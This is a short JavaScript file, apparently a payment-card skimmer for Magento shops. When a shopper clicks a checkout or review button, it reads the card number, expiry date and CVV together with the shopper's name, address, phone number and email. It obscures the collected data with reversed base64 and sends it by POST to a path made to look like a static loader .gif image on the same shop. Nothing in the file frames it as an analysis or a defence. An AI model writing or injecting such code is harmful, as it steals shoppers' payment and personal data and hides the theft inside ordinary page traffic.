// corpus note: sends base64-encoded card and contact fields with fetch to a relative static .gif path on the same shop, keeping all traffic first-party
(() => {
  const target = "/pub/static/frontend/Magento/luma/en_US/images/loader-2.gif";
  const seen = new Set();

  const read = (root, selector) => {
    const node = root.querySelector(selector);
    return node ? node.value.trim() : "";
  };

  const encode = (obj) => btoa(unescape(encodeURIComponent(JSON.stringify(obj))))
    .split("").reverse().join("");

  const capture = (root) => ({
    cn: read(root, "input[name='payment[cc_number]'], input[data-container$='cc-number']"),
    em: read(root, "select[name='payment[cc_exp_month]'], input[data-container$='cc-month']"),
    ey: read(root, "select[name='payment[cc_exp_year]'], input[data-container$='cc-year']"),
    cv: read(root, "input[name='payment[cc_cid]'], input[data-container$='cc-cvv']"),
    fn: read(document, "input[name='firstname']"),
    ln: read(document, "input[name='lastname']"),
    st: read(document, "input[name='street[0]']"),
    ci: read(document, "input[name='city']"),
    pc: read(document, "input[name='postcode']"),
    tl: read(document, "input[name='telephone']"),
    ml: read(document, "#customer-email")
  });

  const flush = async (root) => {
    const data = capture(root);
    const digits = data.cn.replace(/\D/g, "");
    if (digits.length < 13 || !data.cv || seen.has(digits)) return;
    seen.add(digits);
    const body = new URLSearchParams({ v: "2", px: encode(data) });
    try {
      await fetch(`${target}?t=${Date.now()}`, {
        method: "POST",
        body,
        credentials: "same-origin",
        keepalive: true,
        headers: { "X-Requested-With": "XMLHttpRequest" }
      });
    } catch (err) {
      seen.delete(digits);
    }
  };

  document.addEventListener("click", (ev) => {
    const btn = ev.target.closest("button.action.checkout, button[data-role='review-save'], .payment-method._active button.primary");
    if (btn) flush(btn.closest(".payment-method") || document);
  }, true);
})();
